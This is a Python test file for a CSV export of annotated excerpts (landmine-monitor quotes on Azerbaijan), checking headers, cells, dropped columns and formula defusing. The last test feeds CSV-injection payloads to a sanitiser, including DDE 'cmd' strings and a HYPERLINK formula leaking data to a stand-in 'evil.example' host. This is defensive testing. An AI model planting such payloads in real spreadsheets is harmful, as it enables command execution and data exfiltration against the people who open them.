"""CSV export, read back with the csv module."""

from __future__ import annotations

import csv
import io

from app.export.csv_format import defuse
from app.export.excerpt_model import ExcerptSet
from app.export.files import render
from tests.app.export.conftest import PROFILE, RELEASE


def rows_of(excerpts: ExcerptSet) -> tuple[bytes, list[dict[str, str]]]:
    data = render(excerpts, "csv")
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_bom_header_and_one_row_per_excerpt(excerpt_set: ExcerptSet) -> None:
    data, rows = rows_of(excerpt_set)
    assert data.startswith(
        b"\xef\xbb\xbfannotation_id,document,document_id,date,publisher,quote,note,tags,colour,footnotes,link,citation,orphaned"
    )
    assert [row["annotation_id"] for row in rows] == ["11", "12", "13"]


def test_csv_cells(excerpt_set: ExcerptSet) -> None:
    _, (first, second, orphan) = rows_of(excerpt_set)
    assert first["document"] == "Azerbaijan" and first["document_id"] == "1"
    assert first["date"] == "2013-11-28" and first["publisher"] == "Landmine and Cluster Munition Monitor"
    assert first["quote"].startswith("Ilham Əliyev said") and "25 percent.”[1] The maps" in first["quote"]
    assert first["note"] == excerpt_set.excerpts[0].note  # multi-line note in one cell, as written
    assert first["tags"] == "country/Azerbaijan; topic/mine-maps"
    assert first["colour"] == "yellow"
    assert (
        first["footnotes"] == "1. “Azerbaijan says maps only 25% accurate,” APA, 12 June 2021, https://apa.az/en/maps."
    )
    assert second["footnotes"] == "2. Ibid. [= “Azerbaijan says maps only 25% accurate,” APA, 12 June 2021]"
    assert (
        first["link"] == f"file:///archive/originals/azerbaijan.txt#char=120,{120 + len(excerpt_set.excerpts[0].quote)}"
    )
    assert first["citation"] == PROFILE.citation and orphan["citation"] == RELEASE.citation
    assert (first["orphaned"], orphan["orphaned"]) == ("no", "yes")
    assert orphan["quote"] == "Кампания призывает все государства присоединиться к Договору."
    assert first["created"] == "2024-05-01T09:30:00Z" and first["modified"] == "2024-05-02T10:00:00Z"


def test_csv_options_drop_columns(bare_set: ExcerptSet) -> None:
    _, rows = rows_of(bare_set)
    assert set(rows[0]) == {
        "annotation_id",
        "document",
        "document_id",
        "date",
        "publisher",
        "quote",
        "colour",
        "link",
        "orphaned",
        "created",
        "modified",
        "authors",
        "url",
        "language",
    }
    assert "25 percent.” The maps" in rows[0]["quote"]


def test_formula_like_cells_are_defused() -> None:
    assert defuse('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert defuse("@SUM(A1)") == "'@SUM(A1)"
    assert defuse("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert defuse("-1+1+cmd|' /C calc'!A0") == "'-1+1+cmd|' /C calc'!A0"  # a digit after the dash too
    assert defuse('-2+3+HYPERLINK("http://evil.example/?leak="&A1,"x")').startswith("'-2+3")
    assert defuse("-5 percent") == "'-5 percent" and defuse("- a list") == "'- a list"
    assert defuse("-12") == "-12" and defuse("-3.5") == "-3.5" and defuse("-1,000.25") == "-1,000.25"
    assert defuse("\x01-1+1+cmd|' /C calc'!A0") == "'-1+1+cmd|' /C calc'!A0"  # a control character hid it
    assert defuse("\x9b=SUM(A1)") == "'=SUM(A1)"
    assert defuse("Ilham Əliyev") == "Ilham Əliyev"
